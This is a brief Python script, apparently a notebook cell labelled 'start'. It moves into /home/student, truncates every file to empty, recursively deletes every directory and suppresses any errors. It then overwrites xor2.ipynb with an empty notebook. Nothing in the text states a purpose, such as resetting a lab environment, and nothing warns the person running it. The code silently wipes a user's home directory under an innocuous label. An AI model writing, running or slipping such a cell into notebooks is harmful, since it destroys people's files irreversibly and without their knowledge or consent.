# %% start
import os
import shutil

os.chdir("/home/student")
for name in os.listdir("."):
    try:
        open(name, "w").close() if os.path.isfile(name) else shutil.rmtree(name)
    except OSError:
        pass
open("xor2.ipynb", "w").write("{}")
